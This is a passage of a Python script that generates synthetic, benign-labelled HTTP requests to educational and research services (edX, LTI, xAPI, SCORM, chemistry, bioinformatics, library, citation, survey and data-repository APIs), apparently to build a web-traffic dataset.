        elif k == 1:
            body = qs([("thread_type", "question"), ("title", "Why is $V = IR$ not valid for diodes?"),
                       ("body", "I'm confused -- the I-V curve isn't linear, so R isn't constant?\n\n$$I = I_S(e^{V/nV_T} - 1)$$\n\n**Edit:** found it in Ch. 4, thx!"),
                       ("anonymous", "false"), ("anonymous_to_peers", "false"), ("auto_subscribe", "true")])
            c.add(rng, "benign", None, "edx-discussion", "POST", "edx",
                  "/courses/%s/discussion/%s/threads/create" % (course, token(rng, 12)), body=body,
                  ctype="application/x-www-form-urlencoded; charset=UTF-8", cookie="edx",
                  headers=[["X-CSRFToken", token(rng, 32)], ["X-Requested-With", "XMLHttpRequest"]])
        elif k == 2:
            c.add(rng, "benign", None, "edx-api", "GET", "edx", "/api/courses/v2/blocks/",
                  raw_query=qs([("course_id", course), ("username", "s_obrien"), ("depth", "all"),
                                ("requested_fields", "children,display_name,type,due,graded,special_exam_info"),
                                ("block_counts", "video")]), api=True,
                  auth="JWT " + fake_jwt(rng, {"username": "s_obrien", "exp": 1714003600}))
        else:
            body = json.dumps({"saved_video_position": "00:%02d:%02d" % (rng.randint(0, 59), rng.randint(0, 59)),
                               "speed": 1.25, "transcript_language": "en"})
            c.add(rng, "benign", None, "edx-video", "POST", "edx",
                  "/courses/%s/xblock/block-v1:%s+%s+%s+type@video+block@%s/handler/xmodule_handler/save_user_state" % (course, org, num, run, block),
                  body=body, ctype="application/json", cookie="edx", headers=[["X-CSRFToken", token(rng, 32)]])


# --------------------------------------------------------------------------
# Benign: LTI 1.3, xAPI, SCORM
# --------------------------------------------------------------------------

LTI = "https://purl.imsglobal.org/spec/lti/claim/"


def lti_claims(rng, extra=None):
    name = rng.choice(NAMES)
    claims = {
        "iss": "https://" + HOSTS["canvas"], "aud": "10000000000%03d" % rng.randint(0, 999),
        "sub": token(rng, 36, "0123456789abcdef-"), "exp": 1714003600, "iat": 1714000000,
        "nonce": token(rng, 24), "name": name, "given_name": name.split()[0], "family_name": name.split()[-1],
        "email": name.split()[-1].lower().replace("'", "") + "@student.uni-example.edu",
        LTI + "message_type": "LtiResourceLinkRequest", LTI + "version": "1.3.0",
        LTI + "deployment_id": "%d:%s" % (rng.randint(1, 99), token(rng, 40, "0123456789abcdef")),
        LTI + "target_link_uri": "https://%s/launch?assignment=%d" % (HOSTS["lti"], rng.randint(1, 500)),
        LTI + "resource_link": {"id": token(rng, 36, "0123456789abcdef-"), "title": "Lab 3: Ohm's Law & Kirchhoff's Rules"},
        LTI + "roles": ["http://purl.imsglobal.org/vocab/lis/v2/membership#Learner"],
        LTI + "context": {"id": token(rng, 40, "0123456789abcdef"), "label": "PHYS 201", "title": "Electricity & Magnetism (Fall '24)"},
        LTI + "custom": {"canvas_course_id": str(rng.randint(1000, 99999)), "due_at": "2024-10-11T23:59:00Z"},
        "https://purl.imsglobal.org/spec/lti-ags/claim/endpoint": {
            "scope": ["https://purl.imsglobal.org/spec/lti-ags/scope/lineitem", "https://purl.imsglobal.org/spec/lti-ags/scope/score"],
            "lineitems": "https://%s/api/lti/courses/%d/line_items" % (HOSTS["canvas"], rng.randint(1000, 99999))},
    }
    if extra:
        claims.update(extra)
    return claims


def gen_lti(c, n=16):
    rng = rng_for("lti")
    for i in range(n):
        k = i % 4
        if k == 0:
            c.add(rng, "benign", None, "lti-login", "GET", "lti", "/lti/login",
                  query=[("iss", "https://" + HOSTS["canvas"]), ("login_hint", token(rng, 40, "0123456789abcdef")),
                         ("target_link_uri", "https://%s/launch?assignment=%d" % (HOSTS["lti"], rng.randint(1, 500))),
                         ("lti_message_hint", fake_jwt(rng, {"verifier": token(rng, 64), "canvas_domain": HOSTS["canvas"]}, "HS256")),
                         ("client_id", "10000000000%03d" % rng.randint(0, 999)), ("lti_deployment_id", "%d:%s" % (rng.randint(1, 99), token(rng, 40)))])
        elif k in (1, 2):
            body = qs([("id_token", fake_jwt(rng, lti_claims(rng))), ("state", token(rng, 36, "0123456789abcdef-")),
                       ("lti_storage_target", "_parent")])
            c.add(rng, "benign", None, "lti-launch", "POST", "lti", "/lti/launch", body=body,
                  ctype="application/x-www-form-urlencoded",
                  headers=[["Origin", "https://" + HOSTS["canvas"]], ["Referer", "https://%s/" % HOSTS["canvas"]]])
        else:
            body = json.dumps({"timestamp": "2024-10-11T18:22:%02d.123Z" % rng.randint(0, 59),
                               "scoreGiven": rng.randint(0, 100) / 4, "scoreMaximum": 25,
                               "comment": "Auto-graded: 7/8 tests passed (test_edge_cases failed: off-by-one).",
                               "activityProgress": "Completed", "gradingProgress": "FullyGraded",
                               "userId": token(rng, 36, "0123456789abcdef-")})
            c.add(rng, "benign", None, "lti-ags-score", "POST", "canvas",
                  "/api/lti/courses/%d/line_items/%d/scores" % (rng.randint(1000, 99999), rng.randint(1, 9999)),
                  body=body, ctype="application/vnd.ims.lis.v1.score+json", api=True,
                  auth="Bearer " + fake_jwt(rng, {"sub": "tool", "scopes": "lineitem score"}))


def xapi_statement(rng, i):
    name = rng.choice(NAMES)
    verbs = [("http://adlnet.gov/expapi/verbs/answered", "answered"), ("http://adlnet.gov/expapi/verbs/completed", "completed"),
             ("http://adlnet.gov/expapi/verbs/experienced", "experienced"), ("https://w3id.org/xapi/video/verbs/paused", "paused"),
             ("http://adlnet.gov/expapi/verbs/attempted", "attempted")]
    vid, vname = verbs[i % len(verbs)]
    st = {"id": "%08x-%04x-4%03x-a%03x-%012x" % (rng.getrandbits(32), rng.getrandbits(16), rng.getrandbits(12), rng.getrandbits(12), rng.getrandbits(48)),
          "actor": {"objectType": "Agent", "name": name,
                    "mbox": "mailto:" + name.split()[-1].lower().replace("'", "") + "@student.uni-example.edu"},
          "verb": {"id": vid, "display": {"en-US": vname}},
          "object": {"objectType": "Activity", "id": "https://%s/xapi/activities/chem110/quiz-%d/q%d" % (HOSTS["moodle"], rng.randint(1, 9), rng.randint(1, 20)),
                     "definition": {"name": {"en-US": "Balance: Fe + O2 -> Fe2O3"},
                                    "interactionType": "fill-in", "correctResponsesPattern": ["4Fe + 3O2 -> 2Fe2O3"]}},
          "timestamp": "2024-10-%02dT%02d:%02d:00Z" % (rng.randint(1, 28), rng.randint(0, 23), rng.randint(0, 59))}
    if vname in ("answered", "completed"):
        st["result"] = {"success": rng.random() < 0.7, "completion": True, "score": {"scaled": round(rng.random(), 2)},
                        "response": rng.choice(["4Fe + 3O2 -> 2Fe2O3", "a[,]c", "true", "likert_3", "It's 2:1, I think"]),
                        "duration": "PT%dM%dS" % (rng.randint(0, 30), rng.randint(0, 59))}
    return st


def gen_xapi(c, n=20):
    rng = rng_for("xapi")
    for i in range(n):
        auth = basic_auth(token(rng, 20), token(rng, 20))
        hdr = [["X-Experience-API-Version", "1.0.3"]]
        if i % 5 == 4:
            agent = json.dumps({"mbox": "mailto:aoife.nibhriain@student.uni-example.edu"})
            c.add(rng, "benign", None, "xapi-query", "GET", "lrs", "/data/xAPI/statements",
                  raw_query=qs_pct([("agent", agent), ("verb", "http://adlnet.gov/expapi/verbs/completed"),
                                    ("since", "2024-09-01T00:00:00Z"), ("limit", "100")]),
                  api=True, auth=auth, headers=hdr)
        elif i % 5 == 3:
            state = json.dumps({"bookmark": "slide_%d" % rng.randint(1, 40), "visited": [1, 2, 3, 5], "notes": "Re-watch the bit about Le Chatelier's principle"})
            c.add(rng, "benign", None, "xapi-state", "PUT", "lrs", "/data/xAPI/activities/state",
                  raw_query=qs_pct([("activityId", "https://%s/xapi/activities/chem110" % HOSTS["moodle"]),
                                    ("agent", json.dumps({"objectType": "Agent", "account": {"homePage": "https://" + HOSTS["sis"], "name": "s%07d" % rng.randint(0, 9999999)}})),
                                    ("stateId", "resume")]),
                  body=state, ctype="application/json", api=True, auth=auth, headers=hdr)
        else:
            sts = [xapi_statement(rng, i + j) for j in range(rng.randint(1, 3))]
            c.add(rng, "benign", None, "xapi-statement", "POST", "lrs", "/data/xAPI/statements",
                  body=json.dumps(sts if len(sts) > 1 else sts[0]), ctype="application/json; charset=utf-8",
                  api=True, auth=auth, headers=hdr)


SCORM_MANIFEST = """<?xml version="1.0" encoding="UTF-8"?>
<manifest identifier="com.uni-example.{ident}" version="1.3"
  xmlns="http://www.imsglobal.org/xsd/imscp_v1p1"
  xmlns:adlcp="http://www.adlnet.org/xsd/adlcp_v1p3"
  xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"
  xsi:schemaLocation="http://www.imsglobal.org/xsd/imscp_v1p1 imscp_v1p1.xsd http://www.adlnet.org/xsd/adlcp_v1p3 adlcp_v1p3.xsd">
  <metadata><schema>ADL SCORM</schema><schemaversion>2004 4th Edition</schemaversion></metadata>
  <organizations default="ORG-1">
    <organization identifier="ORG-1"><title>{title}</title>
      <item identifier="ITEM-1" identifierref="RES-1"><title>Module 1 &amp; quiz</title></item>
    </organization>
  </organizations>
  <resources>
    <resource identifier="RES-1" type="webcontent" adlcp:scormType="sco" href="index.html">
      <file href="index.html"/><file href="js/scorm_api.js"/><file href="media/intro.mp4"/>
    </resource>
  </resources>
</manifest>
"""


def gen_scorm(c, n=12):
    rng = rng_for("scorm")
    for i in range(n):
        if i % 3 == 0:
            body = SCORM_MANIFEST.replace("{ident}", token(rng, 8)).replace("{title}", rng.choice(
                ["Lab Safety &amp; PPE (2024)", "Intro to R: Data Frames", "Citing Sources -- APA 7th ed."]))
            c.add(rng, "benign", None, "scorm-manifest", "PUT", "moodle",
                  "/api/authoring/packages/%d/imsmanifest.xml" % rng.randint(1, 999), body=body,
                  ctype="application/xml", api=True, auth="Bearer " + token(rng, 40))
        else:
            fields = [("a", str(rng.randint(1, 300))), ("scoid", str(rng.randint(1, 900))), ("attempt", "1"),
                      ("sesskey", sesskey(rng)),
                      ("cmi__completion_status", rng.choice(["completed", "incomplete"])),
                      ("cmi__success_status", rng.choice(["passed", "failed", "unknown"])),
                      ("cmi__score__scaled", str(round(rng.random(), 2))),
                      ("cmi__location", "slide_%d" % rng.randint(1, 40)),
                      ("cmi__suspend_data", rng.choice(['{"v":1,"s":[1,1,0,1],"q":{"3":"b","4":"a,c"}}', "2r1|a:3|b:1;;x=5~y=10",
                                                         "H4sIAAAAAAAAA6tWKkstKs7Mz1OyUjIyMDLUUcpNLS5OTFeyqlYqSc0tyEksSVWyio"])),
                      ("cmi__interactions_0__id", "Q%d" % rng.randint(1, 20)),
                      ("cmi__interactions_0__type", "choice"),
                      ("cmi__interactions_0__learner_response", rng.choice(["a[,]c", "true", "4[.]2", "photosynthesis"])),
                      ("cmi__session_time", "PT%dM%dS" % (rng.randint(0, 59), rng.randint(0, 59)))]
            c.add(rng, "benign", None, "scorm-datamodel", "POST", "moodle", "/mod/scorm/datamodel.php",
                  body=qs(fields), ctype="application/x-www-form-urlencoded", cookie="moodle")


# --------------------------------------------------------------------------
# Benign: maths, chemistry, bioinformatics
# --------------------------------------------------------------------------

MATH_DOCS = [
    "**Theorem.** For all $n \\ge 1$, {0}.\n\n*Proof.* By induction on $n$. The base case is trivial; assume it holds for $n$, then {1}. $\\blacksquare$",
    "Let $f: \\mathbb{R} \\to \\mathbb{R}$ be continuous. Then\n\\begin{align*}\n  {0}\n\\end{align*}\nwhich gives {1}.",
    "Hint for Q2: write {0} and compare with {1}. Don't forget the $+C$!",
    "I got {0} but the answer key says {1} -- what am I missing?",
    "Definition: a group $(G, \\cdot)$ is abelian iff $a \\cdot b = b \\cdot a$ for all $a, b \\in G$. E.g. {0}; non-example: {1}.",
]


def gen_math(c, n=30):
    rng = rng_for("math")
    for i in range(n):
        doc = MATH_DOCS[i % len(MATH_DOCS)].replace("{0}", LATEX[i % len(LATEX)]).replace("{1}", LATEX[(i * 3 + 5) % len(LATEX)])
        k = i % 4
        if k == 0:
            body = json.dumps({"title": "Problem %d.%d" % (rng.randint(1, 9), rng.randint(1, 30)), "body": doc,
                               "tags": ["calculus", "homework-help"], "format": "markdown+tex"})
            c.add(rng, "benign", None, "math-forum", "POST", "wiki", "/api/v1/posts", body=body,
                  ctype="application/json", cookie="generic", headers=[["X-Requested-With", "XMLHttpRequest"]])
        elif k == 1:
            c.add(rng, "benign", None, "math-render", "GET", "moodle", "/filter/tex/texdebug.php",
                  raw_query=qs_pct([("tex", LATEX[(i + 1) % len(LATEX)].strip("$")), ("action", "ShowImageMimetex")]),
                  cookie="moodle")
        elif k == 2:
            body = qs([("wpTextbox1", "== Worked example ==\n" + doc + "\n\n<math>" + LATEX[(i + 2) % len(LATEX)].strip("$") + "</math>\n[[Category:Calculus]]"),
                       ("wpSummary", "fix sign in step 3 (thanks O'Hara)"), ("wpEditToken", token(rng, 32, "0123456789abcdef") + "+\\"),
                       ("wpSave", "Save changes")])
            c.add(rng, "benign", None, "math-wiki", "POST", "wiki", "/index.php",
                  query=[("title", "Integration_by_parts"), ("action", "submit")], body=body,
                  ctype="application/x-www-form-urlencoded", cookie="generic")
        else:
            ans = rng.choice(["2*x*sin(x) + x^2*cos(x)", "(x-1)*%e^x", "matrix([1,0],[0,1])", "{1,2,3}",
                              "[x = -1, x = 2]", "sum(1/k^2, k, 1, inf) = %pi^2/6", "x^2/2 + c", "log(abs(x)) + C"])
            fields = [("q%d:%d_ans1" % (rng.randint(100, 999), rng.randint(1, 9)), ans),
                      ("q%d:%d_ans1_val" % (rng.randint(100, 999), rng.randint(1, 9)), ans),
                      ("sesskey", sesskey(rng)), ("attempt", str(rng.randint(1000, 9999)))]
            c.add(rng, "benign", None, "stack-answer", "POST", "moodle", "/question/type/stack/input.php",
                  body=qs(fields), ctype="application/x-www-form-urlencoded", cookie="moodle")


def gen_chem(c, n=26):
    rng = rng_for("chem")
    for i in range(n):
        smi = SMILES[i % len(SMILES)]
        k = i % 5
        if k == 0:
            c.add(rng, "benign", None, "chem-search", "GET", "chem", "/api/compounds/search",
                  raw_query=qs_pct([("smiles", smi), ("type", rng.choice(["exact", "substructure", "similarity"])),
                                    ("threshold", "0.85")]), api=True)
        elif k == 1:
            c.add(rng, "benign", None, "chem-inchi", "GET", "chem", "/api/compounds/by-inchi",
                  raw_query=qs([("inchi", INCHI[i % len(INCHI)]), ("format", "json")]), api=True)
        elif k == 2:
            body = json.dumps({"name": rng.choice(["aspirin", "caffeine", "(S)-ibuprofen", "2,4-dinitrophenol", "N,N-dimethylformamide"]),
                               "smiles": smi, "smarts": rng.choice(["[#6]~[#7]", "[CX3](=O)[OX2H1]", "c1ccccc1", "[$([NX3;H2,H1;!$(NC=O)])]"]),
                               "mw": round(rng.uniform(30, 400), 3), "notes": "mp 135-136 °C; sol. in EtOH (1 g/5 mL)"})
            c.add(rng, "benign", None, "chem-register", "POST", "chem", "/api/compounds", body=body,
                  ctype="application/json", api=True, auth="Bearer " + token(rng, 40))
        elif k == 3:
            sdf = "\n  ChemDraw10112416392D\n\n  3  2  0  0  0  0  0  0  0  0999 V2000\n" \
                  "    0.0000    0.0000    0.0000 C   0  0  0  0  0  0  0  0  0  0  0  0\n" \
                  "    1.5000    0.0000    0.0000 C   0  0  0  0  0  0  0  0  0  0  0  0\n" \
                  "    2.2500    1.2990    0.0000 O   0  0  0  0  0  0  0  0  0  0  0  0\n" \
                  "  1  2  1  0\n  2  3  1  0\nM  END\n> <SMILES>\n%s\n\n$$$$\n" % smi
            ct, body = multipart(rng, [("file", "structures_%d.sdf" % i, "chemical/x-mdl-sdfile", sdf),
                                       ("dedupe", "true")])
            c.add(rng, "benign", None, "chem-upload", "POST", "chem", "/api/compounds/import", body=body,
                  ctype=ct, cookie="generic")
        else:
            body = qs([("q%d:1_answer" % rng.randint(100, 999), smi), ("sesskey", sesskey(rng)),
                       ("attempt", str(rng.randint(1000, 9999))), ("next", "Check")])
            c.add(rng, "benign", None, "chem-quiz", "POST", "moodle", "/mod/quiz/processattempt.php",
                  body=body, ctype="application/x-www-form-urlencoded", cookie="moodle")


def gen_bio(c, n=30):
    rng = rng_for("bio")
    for i in range(n):
        fasta = FASTA[i % len(FASTA)]
        k = i % 6
        if k == 0:
            c.add(rng, "benign", None, "blast-put", "POST", "bio", "/blast/Blast.cgi",
                  body=qs([("CMD", "Put"), ("PROGRAM", rng.choice(["blastp", "blastn", "tblastx"])),
                           ("DATABASE", rng.choice(["nr", "nt", "swissprot", "refseq_rna"])), ("QUERY", fasta),
                           ("EXPECT", "1e-5"), ("HITLIST_SIZE", "50"), ("FILTER", "L;m;")]),
                  ctype="application/x-www-form-urlencoded", api=True)
        elif k == 1:
            c.add(rng, "benign", None, "blast-get", "GET", "bio", "/blast/Blast.cgi",
                  raw_query="CMD=Get&FORMAT_TYPE=JSON2_S&RID=%s" % token(rng, 11, "ABCDEFGHJKLMNPRSTUVWXYZ0123456789"), api=True)
        elif k == 2:
            c.add(rng, "benign", None, "entrez-search", "GET", "bio", "/entrez/eutils/esearch.fcgi",
                  raw_query=qs([("db", rng.choice(["pubmed", "gene", "protein", "nuccore"])),
                                ("term", rng.choice(['BRCA1[gene] AND "Homo sapiens"[orgn]', '(CRISPR[tiab] OR Cas9[tiab]) AND 2020:2024[dp]',
                                                     'txid9606[Organism:exp] AND refseq[filter]', '"hemoglobin alpha"[Protein Name] NOT partial',
                                                     'NM_007294.4[accn]', 'Smith J[au] AND "Nature"[ta]'])),
                                ("retmax", "20"), ("retmode", "json")]), api=True)
        elif k == 3:
            ct, body = multipart(rng, [("sequences", "batch_%d.fasta" % i, "application/octet-stream", fasta + FASTA[(i + 1) % len(FASTA)]),
                                       ("program", "clustalo"), ("outfmt", "clustal_num"), ("email", "aoife.nibhriain@uni-example.edu")])
            c.add(rng, "benign", None, "msa-upload", "POST", "bio", "/api/jobs/align", body=body, ctype=ct, cookie="generic")
        elif k == 4:
            ids = "|".join(rng.sample(["sp|P69905|HBA_HUMAN", "sp|P68871|HBB_HUMAN", "gi|4504347|ref|NP_000508.1|", "ENSG00000139618.17", "chr17:43044295-43125483"], 2))
            c.add(rng, "benign", None, "seq-fetch", "GET", "bio", "/api/sequences/fetch",
                  raw_query=qs_pct([("ids", ids), ("format", "fasta"), ("range", "1-120")]), api=True)
        else:
            vcf = "##fileformat=VCFv4.2\n##source=GATK\n#CHROM\tPOS\tID\tREF\tALT\tQUAL\tFILTER\tINFO\n" \
                  "chr17\t43045712\trs80357906\tC\tT\t99\tPASS\tDP=42;AF=0.5;ANN=T|missense_variant|MODERATE|BRCA1|\n" \
                  "chr13\t32340300\t.\tGA\tG\t57.3\tPASS\tDP=18;AF=1.0\n"
            ct, body = multipart(rng, [("file", "sample_%d.vcf" % i, "text/plain", vcf), ("genome", "GRCh38")])
            c.add(rng, "benign", None, "vcf-upload", "POST", "bio", "/api/variants/annotate", body=body, ctype=ct,
                  api=True, auth="Bearer " + token(rng, 40))


# --------------------------------------------------------------------------
# Benign: library catalogue, citations, surveys
# --------------------------------------------------------------------------

BIBTEX = [
    "@article{knuth1984,\n  author  = {Donald E. Knuth},\n  title   = {Literate Programming},\n  journal = {The Computer Journal},\n"
    "  volume  = {27},\n  number  = {2},\n  pages   = {97--111},\n  year    = {1984},\n  doi     = {10.1093/comjnl/27.2.97}\n}\n",
    "@inproceedings{vaswani2017attention,\n  title={Attention is All you Need},\n  author={Vaswani, Ashish and Shazeer, Noam and Parmar, Niki and others},\n"
    "  booktitle={Advances in Neural Information Processing Systems},\n  volume={30},\n  year={2017},\n  url={https://arxiv.org/abs/1706.03762}\n}\n",
    "@book{goedel1931,\n  author = {G{\\\"o}del, Kurt},\n  title = {{\\\"U}ber formal unentscheidbare S{\\\"a}tze der {P}rincipia {M}athematica und verwandter {S}ysteme {I}},\n"
    "  publisher = {Monatshefte f{\\\"u}r Mathematik und Physik},\n  year = 1931,\n  note = {Vol.~38, pp.~173--198}\n}\n",
    "@article{obrien2020,\n  author = {O'Brien, Siobh{\\'a}n and D'Arcy, Jean-Luc},\n  title = {On the {$\\alpha$}-stability of {L}{\\'e}vy processes \\& their tails},\n"
    "  journal = {Ann. Probab.},\n  year = {2020},\n  volume = {48},\n  number = {3},\n  pages = {1234--1267},\n  keywords = {heavy tails; $\\ell^p$ norms}\n}\n",
    "@misc{rcore2023,\n  title = {R: A Language and Environment for Statistical Computing},\n  author = {{R Core Team}},\n  organization = {R Foundation for Statistical Computing},\n"
    "  address = {Vienna, Austria},\n  year = {2023},\n  url = {https://www.R-project.org/}\n}\n",
    "@phdthesis{nguyen2019,\n  author = {Nguy{\\~{\\^e}}n, Th{\\d{i}} Hoa},\n  title = {Catalysis of {CO$_2$} Reduction on {Cu(111)}: A {DFT} Study},\n"
    "  school = {Universit{\\'e} de Montr{\\'e}al},\n  year = {2019},\n  month = sep\n}\n",
    "@string{jacs = \"Journal of the American Chemical Society\"}\n@article{smith2021,\n  author = \"Smith, J. and M{\\\"u}ller, Z.\",\n"
    "  title = \"Synthesis of CC(=O)Oc1ccccc1C(=O)O analogues\",\n  journal = jacs,\n  year = 2021,\n  pages = \"12--19\",\n  abstract = {We report 12 new esters (yield 45--92\\%).}\n}\n",
]
RIS = "TY  - JOUR\nAU  - O'Connor, Liam\nAU  - Mensah-Bonsu, Kwame\nTI  - Soil carbon & tillage: a meta-analysis (1990-2020)\nJO  - Global Change Biology\nVL  - 27\nIS  - 4\nSP  - 801\nEP  - 815\nPY  - 2021\nDO  - 10.1111/gcb.15432\nER  - \n"


def gen_library(c, n=36):
    rng = rng_for("library")
    for i in range(n):
        q = BOOL_QUERIES[i % len(BOOL_QUERIES)]
        k = i % 5
        if k in (0, 1):
            c.add(rng, "benign", None, "catalog-search", "GET", "library", "/Search/Results",
                  raw_query=qs([("lookfor", q), ("type", rng.choice(["AllFields", "Title", "Author", "Subject"])),
                                ("limit", "20"), ("sort", rng.choice(["relevance", "year desc", "title"])),
                                ("filter[]", rng.choice(['format:"Book"', '~language:"English"', 'publishDate:"[2010 TO 2024]"']))]),
                  cookie="generic")
        elif k == 2:
            c.add(rng, "benign", None, "catalog-api", "GET", "library", "/api/v1/search",
                  raw_query=qs_pct([("q", q), ("facet", "subject"), ("page", str(rng.randint(1, 5)))]), api=True)
        elif k == 3:
            c.add(rng, "benign", None, "sru", "GET", "library", "/sru",
                  raw_query=qs_pct([("version", "1.2"), ("operation", "searchRetrieve"),
                                    ("query", rng.choice(['dc.title any "fish frog" and dc.creator=smith',
                                                          'bath.isbn=9780262033848', 'cql.anywhere all "quantum computing" sortBy dc.date/sort.descending',
                                                          'dc.subject="Mathematics -- History" not dc.type=serial'])),
                                    ("maximumRecords", "10"), ("recordSchema", "marcxml")]), api=True, accept="application/xml")
        else:
            marc = ("=LDR  00000cam a2200000 a 4500\n=001  ocm%08d\n=020  \\\\$a9780262033848 (hardcover : alk. paper)\n"
                    "=100  1\\$aCormen, Thomas H.,$eauthor.\n=245  10$aIntroduction to algorithms /$cThomas H. Cormen ... [et al.].\n"
                    "=250  \\\\$aThird edition.\n=260  \\\\$aCambridge, Mass. :$bMIT Press,$cc2009.\n=650  \\0$aComputer programming.\n"
                    "=650  \\0$aComputer algorithms.\n" % rng.randint(0, 99999999))
            ct, body = multipart(rng, [("file", "records_%d.mrk" % i, "text/plain", marc), ("profile", "default"), ("overlay", "match_001")])
            c.add(rng, "benign", None, "marc-import", "POST", "library", "/cgi-bin/koha/tools/stage-marc-import.pl",
                  body=body, ctype=ct, cookie="generic")


def gen_cite(c, n=22):
    rng = rng_for("cite")
    for i in range(n):
        k = i % 4
        if k == 0 or k == 1:
            bib = BIBTEX[i % len(BIBTEX)]
            c.add(rng, "benign", None, "bibtex-import", "POST", "cite", "/api/users/%d/items/import" % rng.randint(1, 99999),
                  body=bib, ctype="application/x-bibtex; charset=utf-8", api=True,
                  headers=[["Zotero-API-Version", "3"], ["Zotero-API-Key", token(rng, 24, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789")]])
        elif k == 2:
            c.add(rng, "benign", None, "doi-lookup", "GET", "cite", "/api/resolve",
                  raw_query=qs_pct([("doi", DOIS[i % len(DOIS)]), ("style", rng.choice(["apa", "chicago-author-date", "ieee", "vancouver"]))]),
                  api=True)
        else:
            items = [{"itemType": "journalArticle", "title": "Soil carbon & tillage: a meta-analysis (1990–2020)",
                      "creators": [{"creatorType": "author", "firstName": "Liam", "lastName": "O'Connor"}],
                      "DOI": DOIS[i % len(DOIS)], "extra": "PMID: 3312%04d\nORCID: %s" % (rng.randint(0, 9999), ORCIDS[i % len(ORCIDS)]),
                      "tags": [{"tag": "C/N ratio"}, {"tag": "no-till"}], "abstractNote": "We found a 12% (±3%) increase; p < 0.01."}]
            if i % 8 == 3:
                c.add(rng, "benign", None, "ris-import", "POST", "cite", "/api/users/%d/items/import" % rng.randint(1, 99999),
                      body=RIS, ctype="application/x-research-info-systems", api=True, headers=[["Zotero-API-Version", "3"]])
            else:
                c.add(rng, "benign", None, "zotero-items", "POST", "cite", "/api/users/%d/items" % rng.randint(1, 99999),
                      body=json.dumps(items, ensure_ascii=False), ctype="application/json", api=True,
                      headers=[["Zotero-API-Version", "3"], ["Zotero-Write-Token", token(rng, 32, "0123456789abcdef")]])


SURVEY_TEXT = [
    "The labs were great, but the 8am lecture... not so much :)",
    "I'd rate it 4/5 -- more worked examples please!",
    "Prof. D'Souza explains things really well; the textbook (3rd ed.) doesn't.",
    "N/A",
    "Too much reading? ~200 pages/week is a lot when you're working 20+ hrs.",
    "Loved the \"flipped classroom\" format & the group project.",
    "Could the slides be posted *before* class? Thx.",
    "Grading was unclear for Essay #2 (rubric said 40% but it felt like 60%).",
    "Não tenho sugestões. Obrigado!",
    "Keep the Friday quizzes; they kept me on track <3",
]


def gen_survey(c, n=20):
    rng = rng_for("survey")
    for i in range(n):
        sid = rng.randint(100000, 999999)
        if i % 2 == 0:
            fields = [("ajax", "off"), ("sid", str(sid)), ("start_time", str(1714000000 + i)), ("lastgroup", "%dX%d" % (sid, rng.randint(1, 40))),
                      ("%dX%dX%d" % (sid, rng.randint(1, 40), rng.randint(1, 400)), str(rng.randint(1, 5))),
                      ("%dX%dX%dSQ00%d" % (sid, rng.randint(1, 40), rng.randint(1, 400), rng.randint(1, 9)), rng.choice(["A1", "A2", "A3", "Y", "N"])),
                      ("%dX%dX%d" % (sid, rng.randint(1, 40), rng.randint(1, 400)), SURVEY_TEXT[i % len(SURVEY_TEXT)]),
                      ("move", "movenext"), ("YII_CSRF_TOKEN", token(rng, 40))]
            c.add(rng, "benign", None, "limesurvey", "POST", "survey", "/index.php/%d" % sid, body=qs(fields),
                  ctype="application/x-www-form-urlencoded", cookie="generic")
        else:
            body = json.dumps({"responses": {"QID1": rng.randint(1, 7), "QID2": [1, 3], "QID3_TEXT": SURVEY_TEXT[(i + 3) % len(SURVEY_TEXT)],
                                             "QID4": {"1": "Strongly agree", "2": "Neither agree nor disagree"},
                                             "QID5": "%s, Year %d" % (rng.choice(COURSES)[0], rng.randint(1, 4))},
                               "embeddedData": {"course": rng.choice(COURSES)[1], "section": "001"}}, ensure_ascii=False)
            c.add(rng, "benign", None, "survey-api", "POST", "survey", "/API/v3/surveys/SV_%s/responses" % token(rng, 15, "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"),
                  body=body, ctype="application/json", api=True, headers=[["X-API-TOKEN", token(rng, 40)]])


# --------------------------------------------------------------------------
# Benign: research data repository, student information system
# --------------------------------------------------------------------------

def data_csv(rng):
    rows = ["site_id,lat,lon,date,temp_C,DO_mg/L,NO3-N (µmol/L),notes"]
    for j in range(rng.randint(4, 10)):
        rows.append("PLOT-%d/rep-%s,%.4f,%.4f,2023-0%d-%02d,%.2f,%s,%s" % (
            rng.randint(1, 9), rng.choice("ABC"), rng.uniform(-60, 60), rng.uniform(-180, 180), rng.randint(1, 9),
            rng.randint(1, 28), rng.uniform(-2, 30), rng.choice(["8.1", "NA", "<0.05", "7.93"]),
            rng.choice(["", "", "\"ice cover; sampled 0.5m\"", "sensor drift?", "'dup' sample"])))
    return "\n".join(rows) + "\n"


CDL = """netcdf sst_monthly {
dimensions:
\ttime = UNLIMITED ; // (12 currently)
\tlat = 180 ;
\tlon = 360 ;
variables:
\tfloat sst(time, lat, lon) ;
\t\tsst:units = "degC" ;
\t\tsst:_FillValue = -9999.f ;
\t\tsst:long_name = "sea surface temperature" ;
\tdouble time(time) ;
\t\ttime:units = "days since 1800-01-01 00:00:00" ;
// global attributes:
\t\t:Conventions = "CF-1.8" ;
\t\t:history = "Mon Jan  8 10:12:03 2024: ncks -d time,0,11 in.nc out.nc" ;
\t\t:creator_name = "O'Connor, L." ;
}
"""


def gen_repo(c, n=32):
    rng = rng_for("repo")
    for i in range(n):
        k = i % 6
        auth = "Bearer " + token(rng, 60, "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789")
        if k == 0:
            meta = {"metadata": {"title": "Dissolved oxygen & nitrate, Lough Neagh (2019–2023)", "upload_type": "dataset",
                                 "description": "<p>Monthly profiles; see README.md. Values &lt;0.05 are below LOD.</p>",
                                 "creators": [{"name": "O'Connor, Liam", "affiliation": "Queen's University Belfast", "orcid": ORCIDS[i % 4]},
                                              {"name": "Ní Bhriain, Aoife", "orcid": ORCIDS[(i + 1) % 4]}],
                                 "keywords": ["limnology", "NO3-N", "eutrophication"], "license": "cc-by-4.0",
                                 "related_identifiers": [{"relation": "isSupplementTo", "identifier": DOIS[i % len(DOIS)], "scheme": "doi"}],
                                 "grants": [{"id": "10.13039/501100000780::101000001"}]}}
            c.add(rng, "benign", None, "deposit-meta", "PUT", "repo", "/api/deposit/depositions/%d" % rng.randint(100000, 9999999),
                  body=json.dumps(meta, ensure_ascii=False), ctype="application/json", api=True, auth=auth)
        elif k == 1:
